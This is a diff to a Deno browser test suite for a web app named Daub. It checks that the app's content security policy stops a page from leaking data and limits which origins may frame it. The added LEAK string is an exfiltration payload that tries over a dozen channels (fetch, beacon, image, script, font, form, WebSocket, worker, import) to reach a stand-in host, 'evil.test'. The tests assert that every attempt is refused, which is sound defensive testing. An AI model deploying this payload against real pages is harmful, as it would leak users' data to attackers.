@@ -16,6 +16,38 @@ const PROBE = (nonce: string) =>
   try { new Function("ran.push('eval')")(); } catch { ran.push("no eval"); }
 </script>`;
 
+/** A page of ours that was talked into telling somebody else what it knows, in every way. */
+const LEAK = `async (evil) => {
+  const refused = [];
+  addEventListener("securitypolicyviolation", (e) => refused.push(e.effectiveDirective));
+  const element = (name, attributes) => {
+    const made = Object.assign(document.createElement(name), attributes);
+    document.body.append(made);
+    return made;
+  };
+  await fetch(evil + "/fetch", { mode: "no-cors" }).catch(() => {});
+  navigator.sendBeacon(evil + "/beacon", "secret");
+  new Image().src = evil + "/image";
+  element("link", { rel: "stylesheet", href: evil + "/style" });
+  element("link", { rel: "prefetch", href: evil + "/prefetch" });
+  element("script", { src: evil + "/script" });
+  element("iframe", { src: evil + "/frame" });
+  element("video", { src: evil + "/video" });
+  element("object", { data: evil + "/object" });
+  element("base", { href: evil + "/base/" });
+  const style = element("style", { textContent:
+    '@font-face { font-family: f; src: url("' + evil + '/font") } p { font-family: f }' });
+  element("p", { textContent: "text" });
+  const form = element("form", { action: evil + "/form", method: "post", target: "elsewhere" });
+  form.submit();
+  try { new WebSocket(evil.replace("http", "ws") + "/socket"); } catch {}
+  try { new EventSource(evil + "/events"); } catch {}
+  try { new Worker(evil + "/worker"); } catch {}
+  await import(evil + "/module").catch(() => {});
+  await new Promise((resolve) => setTimeout(resolve, 300));
+  return { refused: [...new Set(refused)], base: document.baseURI };
+}`;
+
 /** A page of the evil site; it never asked the user for anything. */
 const EVIL = (port: number) =>
   `<!doctype html><title>Evil</title>
@@ -63,9 +95,13 @@ Deno.test("a browser keeps the rules: cookie, content policy, other origins, reb
   let changes = 0;
   const renew = server.server.credentials.renewToken.bind(server.server.credentials);
   server.server.credentials.renewToken = () => (changes++, renew());
+  const asked: string[] = [];
   await using evil = Deno.serve(
     { port: 0, hostname: "127.0.0.1", onListen: () => {} },
-    () => new Response(EVIL(port), { headers: { "content-type": "text/html" } }),
+    ({ url, headers }) => {
+      asked.push(new URL(url).pathname + (headers.get("referer") ?? ""));
+      return new Response(EVIL(port), { headers: { "content-type": "text/html" } });
+    },
   );
   await using browser = await openBrowser({
     args: ["--host-resolver-rules=MAP evil.test 127.0.0.1, MAP rebound.test 127.0.0.1"],
@@ -94,6 +130,27 @@ Deno.test("a browser keeps the rules: cookie, content policy, other origins, reb
       assert.ok(!ran.includes(never), never);
     }
     assert.ok(ran.some((entry) => entry.startsWith("refused script-src")), ran.join());
+  });
+
+  await t.step("8. a page of ours can tell nobody else anything", async () => {
+    const leaking = await context.newPage();
+    await leaking.goto(`http://127.0.0.1:${port}/`);
+    const site = `http://evil.test:${evil.addr.port}`;
+    const { refused, base } = await leaking.evaluate(`(${LEAK})("${site}")`) as {
+      refused: string[];
+      base: string;
+    };
+    assert.deepEqual(asked, []);
+    assert.equal(base, `http://127.0.0.1:${port}/`);
+    for (
+      const directive of ["connect-src", "img-src", "style-src-elem", "script-src-elem"]
+        .concat("frame-src", "media-src", "font-src", "form-action", "worker-src", "base-uri")
+    ) assert.ok(refused.includes(directive), `${directive} is not among ${refused}`);
+    // A link that the user follows does not say where it was.
+    await leaking.evaluate(`location.href = "${site}/link"`);
+    await leaking.waitForURL(`${site}/link`);
+    assert.equal(asked[0], "/link");
+    await leaking.close();
   });
 
   // The first one is same-site, because sites know no ports: the cookie is sent along.
@@ -127,4 +184,31 @@ Deno.test("a browser keeps the rules: cookie, content policy, other origins, reb
     assert.equal(socket, "refused");
     await rebound.close();
   });
+});
+
+Deno.test("6. and 8. a browser frames our pages on listed origins and on no other", async () => {
+  let port = 0;
+  const site = () =>
+    Deno.serve(
+      { port: 0, hostname: "127.0.0.1", onListen: () => {} },
+      () =>
+        new Response(`<!doctype html><iframe name="frame" src="http://127.0.0.1:${port}/">`, {
+          headers: { "content-type": "text/html" },
+        }),
+    );
+  await using lab = site();
+  await using other = site();
+  await using server = await serve({
+    credential: "none",
+    origins: [`http://127.0.0.1:${lab.addr.port}`],
+  });
+  ({ port } = server);
+  await using browser = await openBrowser();
+  const page = await browser.newPage();
+  await page.goto((await server.server.address()).href);
+  for (const [{ addr }, isFramed] of [[lab, true], [other, false]] as const) {
+    await page.goto(`http://127.0.0.1:${addr.port}/`);
+    const content = await page.frame("frame")!.content();
+    assert.equal(/<title>Daub/.test(content), isFramed, content);
+  }
 });
